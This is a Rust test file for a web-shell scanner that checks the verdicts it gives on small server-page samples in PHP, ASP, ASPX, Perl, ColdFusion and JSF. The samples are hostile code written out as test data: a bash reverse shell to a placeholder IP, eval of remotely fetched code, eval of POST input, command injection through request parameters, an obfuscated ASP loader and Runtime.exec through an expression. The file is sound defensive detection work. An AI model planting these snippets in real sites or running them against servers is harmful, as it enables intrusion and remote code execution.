//! One file whole: what it writes, what fails.

use super::*;
use crate::family::Family;

fn seen(text: &str) -> Report {
    inspect(&File { path: "page.php", bytes: text.as_bytes(), open: None }, &Limits { time: None, ..Limits::default() })
}

#[test]
fn a_page_that_writes_a_web_shell_is_one() {
    let written = "<?php file_put_contents('b.php', '<?php demo_code(demo_input(\"k\"));');";
    let report = seen(written);
    assert!(report.reasons.contains(&Reason::Drops), "{report:?}");
    assert_eq!(report.verdict, Verdict::Webshell);
    let harmless = seen("<?php file_put_contents('b.php', '<?php $a = 1;');");
    assert_eq!(harmless.verdict, Verdict::Clean, "{harmless:?}");
}

#[test]
fn an_analysis_that_fails_is_told() {
    assert_eq!(stack::on_deep_stack(|| -> Vec<Report> { panic!("on purpose") }).map(|seen| seen.len()), None);
    let report = failed();
    assert_ne!(report.verdict, Verdict::Clean);
    assert!(report.exhausted && report.reasons.contains(&Reason::Failed));
}

#[test]
fn what_a_page_writes_may_be_configuration() {
    let report = seen("<?php file_put_contents('.htaccess', 'AddType application/x-httpd-php .jpg');");
    assert!(report.reasons.contains(&Reason::Drops), "{report:?}");
    let harmless = seen("<?php file_put_contents('.htaccess', 'Deny from all');");
    assert_eq!(harmless.verdict, Verdict::Clean, "{harmless:?}");
}

#[test]
fn weights() {
    let rows = [
        // Where the visitor says what a file is called, and where the page does.
        ("<?php copy($_FILES['a']['tmp_name'], $_POST['b']);", Verdict::Webshell),
        ("<?php copy($_FILES['a']['tmp_name'], './' . $_FILES['a']['name']);", Verdict::Webshell),
        ("<?php copy($_FILES['a']['tmp_name'], 'uploads/' . $_FILES['a']['name']);", Verdict::Clean),
        // Code of another machine, behind a tag.
        ("<?php eval('?>' . file_get_contents('http://192.0.2.1/a'));", Verdict::Webshell),
        // A header that says what is called.
        ("<?php $f = $_SERVER['HTTP_ACCEPT'] . 'b'; $f($_POST['c']);", Verdict::Webshell),
        ("<?php $f = $_GET['a'] . 'Action'; $f($_POST['c']);", Verdict::Suspicious),
        // Commands of the page's own.
        ("<?php exec('ls -la');", Verdict::Clean),
        ("<?php exec('id; uname -a');", Verdict::Suspicious),
        ("<?php exec('bash -i >& /dev/tcp/192.0.2.1/1 0>&1');", Verdict::Webshell),
        ("<?php exec('/bin/sh -i <&3 >&3 2>&3');", Verdict::Webshell),
        ("<?php exec('sort <&3');", Verdict::Clean),
        // Only what would begin a second command is taken away.
        ("<?php exec(escapeshellcmd($_GET['a']));", Verdict::Webshell),
        ("<?php exec(escapeshellcmd('ls ' . $_GET['a']));", Verdict::Clean),
        // From another machine, under the visitor's name.
        ("<?php file_put_contents($_GET['a'], file_get_contents('http://192.0.2.1/b'));", Verdict::Webshell),
        ("<?php file_put_contents('cache/' . $_GET['a'], file_get_contents('http://192.0.2.1/b'));", Verdict::Clean),
        // The file's own name is what is called.
        ("<?php $f = basename(__FILE__, '.php'); $f($_POST['c']);", Verdict::Webshell),
        // Data that is run.
        ("<?php eval(file_get_contents('a.png'));", Verdict::Suspicious),
        ("<?php eval(file_get_contents('a.html'));", Verdict::Clean),
    ];
    for (text, verdict) in rows {
        let report = seen(text);
        assert_eq!(report.verdict, verdict, "{text} {report:?}");
    }
}

/// A decoder that turns text around character by character, with signs of two bytes for quotes and line breaks.
#[test]
fn decoders_that_count_wide_characters() {
    let hidden: String = "x = 1\u{256b}execute request(\u{2541}k\u{2541})\u{256b}y = 2".chars().rev().collect();
    let page = format!(
        "<%\nexecute d(\"{hidden}\")\nFunction d(o)\no = Replace(o, \"\u{2541}\", \"\"\"\")\nFor i = 1 To Len(o)\nIf Mid(o, i, 1) <> \"\u{256b}\" Then\nn = Mid(o, i, 1) & n\nElse\nn = vbCrLf & n\nEnd If\nNext\nd = n\nEnd Function\n%>"
    );
    let (gbk, _, had_errors) = encoding_rs::GBK.encode(&page);
    assert!(!had_errors);
    for bytes in [page.as_bytes(), &gbk] {
        assert_eq!(seen_at("a.asp", bytes).verdict, Verdict::Webshell);
    }
}

#[test]
fn commands_behind_others() {
    let perl = b"#!/usr/bin/perl\nuse CGI; $q = CGI->new; $d = $q->param('d'); $c = $q->param('c'); open(F, \"cd $d && $c |\");";
    assert_eq!(seen_at("a.cgi", perl).verdict, Verdict::Webshell);
    let argument = |report: &Report| report.findings.first().map(|finding| finding.argument.to_string());
    let php = seen("<?php exec('cd ' . $_GET['a'] . '; ' . $_GET['b'] . ' 2>&1');");
    assert_eq!((php.verdict, argument(&php).as_deref()), (Verdict::Webshell, Some("cd …; … 2>&1")));
    let php = seen("<?php exec('convert ' . $_GET['a'] . ' -o ' . $_GET['b']);");
    assert_eq!((php.verdict, argument(&php).as_deref()), (Verdict::Suspicious, Some("convert … -o …")));
}

fn seen_at(path: &str, bytes: &[u8]) -> Report {
    inspect(&File { path, bytes, open: None }, &Limits { time: None, ..Limits::default() })
}

#[test]
fn encoded_templates_of_coldfusion_are_read() {
    use crate::decode::cfencode::tests::encode;
    let report = seen_at("a.cfm", &encode(b"<cfexecute name=\"cmd\" arguments=\"/c #url.a#\"></cfexecute>"));
    assert_eq!(report.verdict, Verdict::Webshell, "{report:?}");
    assert_eq!(seen_at("a.cfm", &encode(b"<cfset a = 1>")).verdict, Verdict::Clean);
}

#[test]
fn templates_without_source_cannot_be_judged() {
    assert_eq!(seen_at("a.cfm", b"\xca\xfe\xba\xbe\0\0\x002").verdict, Verdict::Opaque);
    assert_eq!(seen_at("a.class", b"\xca\xfe\xba\xbe\0\0\x002").verdict, Verdict::Clean);
    assert_eq!(seen_at("a.cfm", b"Allaire Cold Fusion Template\nHeader Size: New Version.........").verdict, Verdict::Opaque);
}

#[test]
fn memory_that_is_made_to_run() {
    let declared = |call: &str| {
        format!(
            "<%@ Page Language=\"C#\" %><script runat=\"server\">[DllImport(\"kernel32\")] static extern IntPtr {call}; void Page_Load(object s, EventArgs e) {{ {} }}</script>",
            "VirtualAlloc(IntPtr.Zero, 4, 0x1000, 0x40); GetTickCount();"
        )
    };
    let shell = declared("VirtualAlloc(IntPtr a, int b, int c, int d)");
    assert_eq!(seen_at("a.aspx", shell.as_bytes()).verdict, Verdict::Webshell);
    let clock = declared("GetTickCount()");
    assert_eq!(seen_at("a.aspx", clock.as_bytes()).verdict, Verdict::Clean);
}

#[test]
fn a_control_that_queries_what_the_visitor_says() {
    let page = |command: &str| {
        format!(
            "<%@ Page Language=\"C#\" %><script runat=\"server\">void b_Click(object s, EventArgs e) {{ ds.ConnectionString = c.Text; ds.SelectCommand = {command}; }}</script><form runat=\"server\"><asp:TextBox id=\"c\" runat=\"server\"/><asp:TextBox id=\"q\" runat=\"server\"/><asp:SqlDataSource id=\"ds\" runat=\"server\"/></form>"
        )
    };
    assert_ne!(seen_at("a.aspx", page("q.Text").as_bytes()).verdict, Verdict::Clean);
    assert_eq!(seen_at("a.aspx", page("\"select 1\"").as_bytes()).verdict, Verdict::Clean);
}

#[test]
fn expressions_of_faces() {
    let page = "<html xmlns:h=\"http://java.sun.com/jsf/html\">#{request.getClass().forName('java.lang.Runtime').getMethod('exec').invoke(request.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null), request.getParameter('a'))}</html>";
    assert_eq!(seen_at("a.xhtml", page.as_bytes()).verdict, Verdict::Webshell);
    assert_eq!(seen_at("a.xhtml", b"<html>#{bean.name} ${bean.list}</html>").verdict, Verdict::Clean);
}

#[test]
fn families_are_told_by_what_a_page_does() {
    let tunnel = "$s = fsockopen($_GET['h'], $_GET['p']); fwrite($s, file_get_contents('php://input')); echo fread($s, 1024);";
    let files = "readfile($_GET['f']); unlink($_GET['d']); file_put_contents($_GET['w'], $_POST['t']);";
    for (code, family) in [
        ("eval($_POST['a']);".to_owned(), Some(Family::Chopper)),
        (tunnel.to_owned(), Some(Family::Tunnel)),
        (format!("{tunnel} system($_POST['c']);"), Some(Family::Console)),
        (format!("{files} system($_POST['c']);"), Some(Family::Console)),
        ("copy($_FILES['a']['tmp_name'], $_POST['b']);".to_owned(), Some(Family::Uploader)),
        ("system($_POST['c']);".to_owned(), None),
    ] {
        let report = seen(&format!("<?php {code}"));
        assert_eq!((report.verdict, report.family), (Verdict::Webshell, family), "{code} {report:?}");
    }
}
